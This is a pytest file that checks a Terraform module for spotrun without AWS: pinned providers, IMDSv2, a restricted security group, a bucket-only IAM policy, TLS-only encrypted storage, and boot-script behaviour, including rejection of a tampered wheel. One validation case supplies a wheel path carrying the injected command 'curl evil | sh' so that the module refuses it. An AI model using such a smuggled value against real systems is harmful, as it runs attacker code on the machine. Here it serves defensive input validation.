"""The Terraform module in terraform/, checked without AWS: parsed with python-hcl2, formatted and rendered by terraform.

`terraform validate` needs the hashicorp/aws provider, which cannot be downloaded here; these
checks cover what spotrun relies on instead (terraform/README.md, "Development").
"""

from __future__ import annotations

import functools
import hashlib
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import boto3
import hcl2
import pytest

from cloud.errors import TerraformError
from cloud.provider import TAG_JOB
from cloud.terraform import MODULE_DIR, REQUIRED_OUTPUTS, WHEEL_VARIABLE, TerraformModule

from .conftest import needs_terraform, write_module

_OPTIONS = hcl2.SerializationOptions(strip_string_quotes=True, explicit_blocks=False, with_comments=False)
_BUCKET_ARN = "${aws_s3_bucket.checkpoints.arn}"
_OBJECT_ACTIONS = {"s3:GetObject", "s3:PutObject", "s3:DeleteObject", "s3:AbortMultipartUpload", "s3:ListMultipartUploadParts"}
_BUCKET_ACTIONS = {"s3:ListBucket", "s3:GetBucketLocation"}


@functools.cache
def _parsed() -> dict[str, list[dict[str, Any]]]:
    """Every top-level block of every .tf file, by block type."""
    blocks: dict[str, list[dict[str, Any]]] = {}
    for path in sorted(MODULE_DIR.glob("*.tf")):
        for block_type, entries in hcl2.loads(path.read_text(), serialization_options=_OPTIONS).items():
            blocks.setdefault(block_type, []).extend(entries)
    return blocks


def _named(block_type: str) -> dict[str, dict[str, Any]]:
    """Variables or outputs by name."""
    return {name: body for entry in _parsed().get(block_type, []) for name, body in entry.items()}


def _resources(kind: str, block_type: str = "resource") -> dict[str, dict[str, Any]]:
    """Resources (or data sources) of one type, by name."""
    return {
        name: body for entry in _parsed()[block_type] for type_, named in entry.items() if type_ == kind for name, body in named.items()
    }


def test_module_declares_every_output_spotrun_reads() -> None:
    outputs = _named("output")
    assert not set(REQUIRED_OUTPUTS) - outputs.keys()
    assert all(body.get("description") for body in outputs.values())


def test_every_variable_has_a_description_and_a_type() -> None:
    variables = _named("variable")
    assert {
        "region",
        "vpc_id",
        "subnet_ids",
        "ami_ssm_parameter",
        "ami_id",
        "root_volume_size_gb",
        WHEEL_VARIABLE,
        "noncurrent_version_expiration_days",
    } <= variables.keys()
    for name, body in variables.items():
        assert body.get("description"), f"variable {name} has no description"
        assert body.get("type"), f"variable {name} has no type"


def test_aws_provider_and_terraform_versions_are_pinned() -> None:
    (settings,) = _parsed()["terraform"]
    assert settings["required_version"].startswith(">=")
    (providers,) = settings["required_providers"]
    assert providers["aws"] == {"source": "hashicorp/aws", "version": "~> 5.0"}


def test_launch_template_requires_imdsv2_and_exposes_tags() -> None:
    (template,) = _resources("aws_launch_template").values()
    (metadata,) = template["metadata_options"]
    assert metadata["http_tokens"] == "required"
    assert metadata["http_put_response_hop_limit"] == 2
    assert metadata["instance_metadata_tags"] == "enabled"
    assert template["instance_initiated_shutdown_behavior"] == "terminate"
    assert "user_data.sh.tftpl" in template["user_data"]
    assert template["iam_instance_profile"] == [{"arn": "${aws_iam_instance_profile.agent.arn}"}]
    assert template["vpc_security_group_ids"] == ["${aws_security_group.agent.id}"]


def test_security_group_lets_in_only_the_other_members_of_the_gang() -> None:
    (group,) = _resources("aws_security_group").values()
    (rule,) = group["ingress"]
    assert rule["self"] is True
    assert not {"cidr_blocks", "ipv6_cidr_blocks", "security_groups", "prefix_list_ids"} & set(rule)
    assert group["egress"]
    standalone_rules = {"aws_security_group_rule", "aws_vpc_security_group_ingress_rule"}
    assert not [kind for entry in _parsed()["resource"] for kind in entry if kind in standalone_rules]


def test_instance_role_can_use_only_the_checkpoint_bucket() -> None:
    policy = _resources("aws_iam_policy_document", "data")["checkpoints"]
    granted: dict[str, set[str]] = {}
    for statement in policy["statement"]:
        assert statement.get("effect", "Allow") == "Allow"
        for resource in statement["resources"]:
            assert resource in (_BUCKET_ARN, f"{_BUCKET_ARN}/*"), f"policy names {resource!r}, not only the bucket"
            granted.setdefault(resource, set()).update(statement["actions"])
    assert granted == {_BUCKET_ARN: _BUCKET_ACTIONS, f"{_BUCKET_ARN}/*": _OBJECT_ACTIONS}
    (attached,) = _resources("aws_iam_role_policy").values()
    assert attached["policy"] == "${data.aws_iam_policy_document.checkpoints.json}"
    # ...and no managed policy rides along.
    kinds = {kind for entry in _parsed()["resource"] for kind in entry}
    assert not kinds & {"aws_iam_policy", "aws_iam_role_policy_attachment", "aws_iam_policy_attachment"}
    assert "managed_policy_arns" not in _resources("aws_iam_role")["agent"]


def test_bucket_is_versioned_encrypted_private_and_expires_old_versions() -> None:
    assert _resources("aws_s3_bucket_versioning")["checkpoints"]["versioning_configuration"] == [{"status": "Enabled"}]
    (encryption,) = _resources("aws_s3_bucket_server_side_encryption_configuration")["checkpoints"]["rule"]
    assert encryption["apply_server_side_encryption_by_default"] == [{"sse_algorithm": "AES256"}]
    block = _resources("aws_s3_bucket_public_access_block")["checkpoints"]
    assert all(
        block[flag] is True for flag in ("block_public_acls", "block_public_policy", "ignore_public_acls", "restrict_public_buckets")
    )
    (rule,) = _resources("aws_s3_bucket_lifecycle_configuration")["checkpoints"]["rule"]
    assert rule["noncurrent_version_expiration"] == [{"noncurrent_days": "${var.noncurrent_version_expiration_days}"}]


def test_bucket_refuses_every_request_without_tls() -> None:
    (attached,) = _resources("aws_s3_bucket_policy").values()
    assert attached["bucket"] == "${aws_s3_bucket.checkpoints.id}"
    assert attached["policy"] == "${data.aws_iam_policy_document.bucket.json}"
    (statement,) = _resources("aws_iam_policy_document", "data")["bucket"]["statement"]
    assert statement["effect"] == "Deny" and statement["actions"] == ["s3:*"]
    assert sorted(statement["resources"]) == [_BUCKET_ARN, f"{_BUCKET_ARN}/*"]
    assert statement["principals"] == [{"type": "*", "identifiers": ["*"]}]
    assert statement["condition"] == [{"test": "Bool", "variable": "aws:SecureTransport", "values": ["false"]}]


def test_instances_get_the_wheel_terraform_stored_under_its_digest_and_no_package_from_an_index() -> None:
    wheel_locals = next(entry for entry in _parsed()["locals"] if "spotrun_wheel_sha256" in entry)
    assert wheel_locals["spotrun_wheel_sha256"] == "${filesha256(var.spotrun_wheel)}"
    stored = _resources("aws_s3_object")["spotrun_wheel"]
    assert stored["bucket"] == "${aws_s3_bucket.checkpoints.id}" and stored["source"] == "${var.spotrun_wheel}"
    assert "${local.spotrun_wheel_sha256}" in stored["key"]
    (template,) = _resources("aws_launch_template").values()
    for argument in (
        "bucket = aws_s3_object.spotrun_wheel.bucket",
        "wheel_key = aws_s3_object.spotrun_wheel.key",
        "wheel_name = local.spotrun_wheel_name",
        "wheel_sha256 = local.spotrun_wheel_sha256",
    ):
        assert argument in template["user_data"]
    assert "spotrun_package" not in _named("variable")


def test_user_data_reads_the_tags_the_agent_expects() -> None:
    template = (MODULE_DIR / "user_data.sh.tftpl").read_text()
    assert "X-aws-ec2-metadata-token-ttl-seconds" in template  # IMDSv2: a token first
    assert f"meta-data/tags/instance/{TAG_JOB}" in template
    assert "agent --from-instance-tags" in template  # the agent reads TAG_URL and TAG_ATTEMPT itself
    assert "shutdown -h now" in template


@needs_terraform
def test_module_is_terraform_fmt_clean(terraform_config: Path) -> None:
    result = subprocess.run(
        ["terraform", "fmt", "-check", "-recursive", "-diff", str(MODULE_DIR)],
        env={**os.environ, "CHECKPOINT_DISABLE": "1"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, f"run `terraform fmt -recursive terraform/`:\n{result.stdout}{result.stderr}"


def _render_user_data(tmp_path: Path, **values: str) -> str:
    """The user data as terraform renders it for the launch template, with these template variables."""
    names = sorted(values)
    module = write_module(
        tmp_path / "render",
        "".join(f'variable "{name}" {{\n  type = string\n}}\n' for name in names)
        + (
            'output "user_data" {\n  value = templatefile("${path.module}/user_data.sh.tftpl", {'
            + ", ".join(f"{name} = var.{name}" for name in names)
            + "})\n}\n"
        ),
    )
    shutil.copyfile(MODULE_DIR / "user_data.sh.tftpl", module / "user_data.sh.tftpl")
    terraform = TerraformModule(tmp_path / "work", tmp_path / "outputs.json", source=module)
    terraform.init()
    return str(terraform.apply(values)["user_data"])


@needs_terraform
def test_user_data_renders_to_valid_bash(tmp_path: Path, terraform_config: Path) -> None:
    """Rendered by terraform itself with the launch template's arguments, then parsed by bash."""
    script = _render_user_data(
        tmp_path,
        bucket="spotrun-checkpoints-1",
        wheel_key="_spotrun/wheels/ab/spotrun-0.1.0-py3-none-any.whl",
        wheel_name="spotrun-0.1.0-py3-none-any.whl",
        wheel_sha256="ab" * 32,
    )

    checked = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True, timeout=30)
    assert checked.returncode == 0, checked.stderr


# Stand-ins for what only an instance has: its metadata service (curl), shutdown, and a venv whose
# pip and spotrun record what they were asked (its python is the real one, so boto3 really downloads).
_CURL = """#!/bin/bash
case "${@: -1}" in
  */api/token) echo token ;;
  */tags/instance/spotrun:job) echo job-1 ;;
  */placement/region) echo us-east-1 ;;
  *) exit 22 ;;
esac
"""
_RECORDER = '#!/bin/bash\necho "$(basename "$0") $*" >> "$BOOT_LOG"\n'
_PYTHON3 = """#!/bin/bash
if [ "$1" = -m ] && [ "$2" = venv ]; then
  mkdir -p "$3/bin" && ln -s "$REAL_PYTHON" "$3/bin/python"
  for tool in pip spotrun; do cp "$RECORDER" "$3/bin/$tool"; chmod +x "$3/bin/$tool"; done
  exit 0
fi
exec "$REAL_PYTHON" "$@"
"""


def _boot(script: str, instance: Path) -> tuple[subprocess.CompletedProcess[str], list[str]]:
    """Run the user data as an instance would, in ``instance`` instead of /opt; what it printed, and what it asked of pip, spotrun and shutdown."""
    bin_dir = instance / "bin"
    bin_dir.mkdir(parents=True)
    for name, text in (("curl", _CURL), ("shutdown", _RECORDER), ("python3", _PYTHON3), ("recorder", _RECORDER)):
        (bin_dir / name).write_text(text)
        (bin_dir / name).chmod(0o755)
    for line in ("VENV=/opt/spotrun\n", "WHEELS=/opt/spotrun-wheels\n"):
        assert line in script
    script = script.replace("VENV=/opt/spotrun\n", f"VENV={instance}/venv\n").replace(
        "WHEELS=/opt/spotrun-wheels\n", f"WHEELS={instance}/wheels\n"
    )
    log = instance / "boot.log"
    env = {
        **os.environ,
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "BOOT_LOG": str(log),
        "REAL_PYTHON": sys.executable,
        "RECORDER": str(bin_dir / "recorder"),
    }
    booted = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=60)
    return booted, log.read_text().splitlines() if log.exists() else []


@pytest.mark.slow  # runs the rendered user data in bash against the moto bucket
@needs_terraform
def test_user_data_installs_the_wheel_from_the_bucket_only_when_its_sha256_matches(
    tmp_path: Path, terraform_config: Path, s3_bucket: str
) -> None:
    bucket = s3_bucket.removeprefix("s3://")
    wheel = b"PK\x03\x04 the wheel spotrun infra up built"
    name = "spotrun-0.1.0-py3-none-any.whl"
    digest = hashlib.sha256(wheel).hexdigest()
    key = f"_spotrun/wheels/{digest}/{name}"
    s3 = boto3.client("s3")
    s3.put_object(Bucket=bucket, Key=key, Body=wheel)
    script = _render_user_data(tmp_path, bucket=bucket, wheel_key=key, wheel_name=name, wheel_sha256=digest)

    booted, asked = _boot(script, tmp_path / "instance-1")
    assert booted.returncode == 0, booted.stdout + booted.stderr
    installed = f"{tmp_path}/instance-1/wheels/{name}"
    assert Path(installed).read_bytes() == wheel
    assert [line for line in asked if "install" in line] == [
        "pip install -q --upgrade pip",
        "pip install -q boto3",
        f"pip install -q {installed}",
    ]
    assert asked[-2:] == ["spotrun agent --from-instance-tags", "shutdown -h now"]

    # A job's code may write anywhere in the bucket (its role can): a replaced wheel is not installed.
    s3.put_object(Bucket=bucket, Key=key, Body=wheel + b" and something else")
    booted, asked = _boot(script, tmp_path / "instance-2")
    assert booted.returncode == 1
    assert "is not the wheel this launch template names" in booted.stdout
    assert not [line for line in asked if "spotrun" in line] and asked[-1] == "shutdown -h now"


@needs_terraform
def test_variable_defaults_pass_their_own_validation(tmp_path: Path, terraform_config: Path) -> None:
    _variables_only(tmp_path).apply(_a_wheel(tmp_path))


@needs_terraform
@pytest.mark.parametrize(
    ("name", "value", "complaint"),
    [
        ("region", "mars-1", "region must look like an AWS region"),
        ("name_prefix", "Spot_Run", "name_prefix must be 1-24 characters"),
        ("bucket_name", "No", "bucket_name must be a valid S3 bucket name"),
        ("noncurrent_version_expiration_days", "0", "at least 1"),
        ("subnet_ids", '["sg-0123"]', "subnet_ids must be subnet ids"),
        ("ami_id", "image-1", "ami_id must be an AMI id"),
        ("root_volume_size_gb", "8", "between 30 and 16384"),
        ("spotrun_wheel", "/tmp/x/spotrun'; curl evil | sh; '.whl", "the path of a wheel file"),
        ("spotrun_wheel", "/tmp/spotrun.tar.gz", "the path of a wheel file"),
        ("spotrun_wheel", "/nowhere/spotrun-0.1.0-py3-none-any.whl", "spotrun_wheel names no file"),
    ],
)
def test_bad_variable_values_are_refused_with_the_modules_message(
    tmp_path: Path,
    terraform_config: Path,
    name: str,
    value: str,
    complaint: str,
) -> None:
    with pytest.raises(TerraformError, match=complaint):
        _variables_only(tmp_path).apply({**_a_wheel(tmp_path), name: value})


def _a_wheel(tmp_path: Path) -> dict[str, str]:
    """A value for the one variable without a default: a file named like a wheel."""
    wheel = tmp_path / "spotrun-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"PK\x05\x06" + bytes(18))
    return {WHEEL_VARIABLE: str(wheel)}


def _variables_only(tmp_path: Path) -> TerraformModule:
    """The module's variables.tf alone (no provider needed), initialised."""
    module = write_module(tmp_path / "variables", 'output "ok" {\n  value = true\n}\n')
    shutil.copyfile(MODULE_DIR / "variables.tf", module / "variables.tf")
    terraform = TerraformModule(tmp_path / "work", tmp_path / "outputs.json", source=module)
    terraform.init()
    return terraform
